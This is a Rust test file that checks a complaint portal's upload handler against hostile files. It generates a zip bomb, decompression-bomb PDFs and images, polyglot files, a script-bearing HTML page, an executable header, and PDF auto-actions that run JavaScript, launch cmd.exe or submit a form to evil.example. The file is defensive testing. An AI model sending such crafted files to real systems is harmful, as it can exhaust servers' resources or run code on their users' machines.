//! Files that nobody means well with, sent to the real server as a browser sends them: each is
//! refused with a sentence that names the file, or taken for what it is; in bounded time and memory,
//! with nothing kept of what was refused, and the server goes on.

use std::io::Write;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::ZlibEncoder;

use crate::support::{Answer, Client, House, Server};

/// A grey picture of 16 by 16 points.
const JPEG: &[u8] = include_bytes!("support/small.jpg");
const MIB: usize = 1024 * 1024;
/// The longest that one file may keep its sender waiting here, on a busy machine.
const PATIENCE: Duration = Duration::from_secs(40);
/// The most memory that the server may ever have taken, in megabytes: it was two hundred before
/// the first file, and four of the largest pictures are looked at together.
const MEMORY: usize = 1_500;

const BOUNDARY: &str = "----okno";

/// A form with one file.
fn form(name: &str, kind: &str, bytes: &[u8]) -> Vec<u8> {
    let head = format!(
        "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         content-type: {kind}\r\n\r\n"
    );
    [
        head.as_bytes(),
        bytes,
        format!("\r\n--{BOUNDARY}--\r\n").as_bytes(),
    ]
    .concat()
}

pub(crate) fn send(client: &mut Client, page: &str, name: &str, bytes: &[u8]) -> Answer {
    let kind = format!("multipart/form-data; boundary={BOUNDARY}");
    let headers = [
        ("content-type", kind.as_str()),
        ("sec-fetch-site", "same-origin"),
    ];
    let body = form(name, "application/pdf", bytes);
    let began = Instant::now();
    let answer = client.ask("POST", page, &headers, &body).unwrap();
    assert!(began.elapsed() < PATIENCE, "{name}: {:?}", began.elapsed());
    answer
}

/// A guest in the middle of a complaint; where their documents are sent to.
fn guest(server: &Server) -> (Client, String) {
    let mut client = server.client();
    let answer = client
        .post_form("/file/complaint", &[("category", "roads.snow")])
        .unwrap();
    let at = answer.header("location").expect("the draft").to_owned();
    let draft = at.trim_end_matches("/matter");
    (client, format!("{draft}/documents"))
}

/// A PDF written by hand: `objects` follow the three that every document has.
fn pdf(catalog: &str, pages: usize, objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.5\n".to_vec();
    let mut offsets = Vec::new();
    let kids: String = (0..pages).map(|_| "3 0 R ").collect();
    let mut all = vec![
        format!("<</Type/Catalog/Pages 2 0 R{catalog}>>").into_bytes(),
        format!("<</Type/Pages/Count {pages}/Kids[{kids}]>>").into_bytes(),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>".to_vec(),
    ];
    all.extend_from_slice(objects);
    for (at, object) in all.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n", at + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let table = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", all.len() + 1).bytes());
    for offset in &offsets {
        out.extend(format!("{offset:010} 00000 n \n").bytes());
    }
    out.extend(format!("trailer\n<</Size {}/Root 1 0 R>>\n", all.len() + 1).bytes());
    out.extend(format!("startxref\n{table}\n%%EOF\n").bytes());
    out
}

/// A document of so many pages, each an object of its own.
fn long_pdf(pages: usize) -> Vec<u8> {
    let page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>".to_vec();
    let whole = pdf("", 1, &vec![page; pages - 1]);
    let kids: String = (3..pages + 3).map(|id| format!("{id} 0 R ")).collect();
    let text = String::from_utf8(whole).unwrap();
    text.replace(
        "/Count 1/Kids[3 0 R ]",
        &format!("/Count {pages}/Kids[{kids}]"),
    )
    .into_bytes()
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// An object stream of spaces that unpacks to so many megabytes.
fn swelling_pdf(megabytes: usize) -> Vec<u8> {
    let mut inside = b"900 0 ".to_vec();
    inside.resize(megabytes * MIB, b' ');
    let packed = packed(&inside);
    let head = format!(
        "<</Type/ObjStm/N 1/First 6/Filter/FlateDecode/Length {}>>\nstream\n",
        packed.len()
    );
    let object = [head.as_bytes(), &packed, b"\nendstream"].concat();
    pdf("/Kept 4 0 R", 1, &[object])
}

/// An archive that holds one packed file of zeros.
fn zip_bomb() -> Vec<u8> {
    let zeros = packed(&vec![0; 16 * MIB]);
    let mut out = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
    out.extend(u32::try_from(zeros.len()).unwrap().to_le_bytes());
    out.extend(u32::MAX.to_le_bytes());
    out.extend(b"\x05\0\0\0a.bin");
    out.extend(zeros);
    out
}

/// The small picture that says it is so large.
fn swollen_jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut out = JPEG.to_vec();
    let frame = out.windows(2).position(|two| two == [0xff, 0xc0]).unwrap();
    out[frame + 5..frame + 7].copy_from_slice(&height.to_be_bytes());
    out[frame + 7..frame + 9].copy_from_slice(&width.to_be_bytes());
    out
}

/// CRC-32 as PNG has it (RFC 2083, section 15).
fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |crc: u32, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 {
                0xedb8_8320 ^ (crc >> 1)
            } else {
                crc >> 1
            }
        })
    })
}

/// A black square of so many points a side, with an alpha channel: small to send, large to draw.
fn black_png(side: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |name: &[u8; 4], content: &[u8]| {
        out.extend(u32::try_from(content.len()).unwrap().to_be_bytes());
        let body = [&name[..], content].concat();
        out.extend(&body);
        out.extend(crc(&body).to_be_bytes());
    };
    let edge = side.to_be_bytes();
    chunk(b"IHDR", &[&edge[..], &edge[..], &[8, 6, 0, 0, 0]].concat());
    let line = side as usize * 4 + 1;
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    for _ in 0..side {
        encoder.write_all(&vec![0; line]).unwrap();
    }
    chunk(b"IDAT", &encoder.finish().unwrap());
    chunk(b"IEND", b"");
    out
}

#[test]
fn every_hostile_file_is_refused_by_name_and_nothing_is_kept_of_it() {
    let house = House::sqlite();
    let server = house.start();
    let (mut client, page) = guest(&server);
    let acting = |action: &str| pdf(&format!("/OpenAction {action}"), 1, &[]);
    let script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
    let mut large = pdf("", 1, &[]);
    large.resize(50 * MIB, b' ');
    let joined = |first: &[u8], second: &[u8]| [first, second].concat();
    let page_of_html = b"<!doctype html><script>alert(1)</script>";
    let hostile: [(&str, Vec<u8>, &str); 17] = [
        ("страница.jpg", page_of_html.to_vec(), "страница"),
        ("программа.pdf", b"MZ\x90\0\x03\0\0\0".to_vec(), "программа"),
        (
            "рисунок.jpg",
            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            "рисунок",
        ),
        ("бомба.pdf", zip_bomb(), "архив"),
        ("большой.pdf", large, "25"),
        ("точки.jpg", swollen_jpeg(65_500, 65_500), "60"),
        ("растёт.pdf", swelling_pdf(64), "растёт"),
        ("страницы.pdf", long_pdf(10_000), "500"),
        ("скрипт.pdf", acting(script), "скрипт"),
        ("запуск.pdf", acting("<</S/Launch/F(cmd.exe)>>"), "запуск"),
        (
            "отправка.pdf",
            acting("<</S/SubmitForm/F(http://evil.example)>>"),
            "отправка",
        ),
        ("двое.pdf", joined(&pdf("", 1, &[]), &zip_bomb()), "двое"),
        ("двое.jpg", joined(JPEG, &zip_bomb()), "двое"),
        ("трое.jpg", joined(JPEG, page_of_html), "трое"),
        (
            "четверо.pdf",
            joined(&pdf("", 1, &[]), page_of_html),
            "четверо",
        ),
        ("обрыв.jpg", JPEG[..JPEG.len() / 2].to_vec(), "обрыв"),
        ("пусто.pdf", Vec::new(), "пусто"),
    ];
    for (name, bytes, told) in &hostile {
        let answer = send(&mut client, &page, name, bytes);
        let text = answer.text();
        assert_eq!(answer.status, 422, "{name}: {text}");
        assert!(text.contains(told), "{name}: «{told}» is not in {text}");
        assert!(
            !text.contains("<li><div class=\"what\">"),
            "{name} is listed"
        );
    }
    let kept = house
        .raw()
        .number("SELECT count(*) FROM case_draft_document");
    assert_eq!(kept, 0);

    // An honest one under a wrong name is taken, and named for what it is.
    let answer = send(&mut client, &page, "снимок.pdf", JPEG);
    assert_eq!(answer.status, 303, "{}", answer.text());
    let shown = client.get(&page).unwrap().text();
    assert!(shown.contains("снимок.jpg"), "{shown}");

    assert_eq!(server.client().get("/healthz").unwrap().status, 200);
    let peak = server.peak_memory();
    println!("{peak} MB at the most");
    assert!(peak < MEMORY, "{peak} MB");
    assert!(!server.log().contains("panic"), "{}", server.log());
    assert!(server.stop().success());
    house.assert_sound("after hostile files");
}

#[test]
fn many_large_pictures_at_once_stay_within_memory_and_pages_do_not_wait() {
    let house = House::sqlite();
    let server = house.start();
    let password = House::demo_password(&server);
    let mut admin = server.client();
    admin.sign_in("admin@okno.example", &password);
    let listed = admin.get("/admin/letterheads").unwrap().text();
    let (_, rest) = listed.split_once("href=\"/admin/letterheads/").unwrap();
    let unit = rest.split('"').next().unwrap();
    let page = format!("/admin/letterheads/{unit}");
    // As large as is taken, and the same again from eight places at once.
    let picture = black_png(7_700);
    assert!(picture.len() < MIB, "{} bytes", picture.len());
    std::thread::scope(|scope| {
        for _ in 0..8 {
            scope.spawn(|| {
                let mut client = server.client();
                client.sign_in("admin@okno.example", &password);
                let answer = send(&mut client, &page, "герб.png", &picture);
                assert!(
                    [303, 422, 429, 503].contains(&answer.status),
                    "{}",
                    answer.text()
                );
            });
        }
        for _ in 0..10 {
            let began = Instant::now();
            assert_eq!(server.client().get("/register").unwrap().status, 200);
            assert!(began.elapsed() < Duration::from_secs(10), "a page waited");
            std::thread::sleep(Duration::from_millis(200));
        }
    });
    let peak = server.peak_memory();
    println!("{peak} MB at the most");
    assert!(peak < MEMORY, "{peak} MB");
    assert!(!server.log().contains("panic"), "{}", server.log());
    assert!(server.stop().success());
}
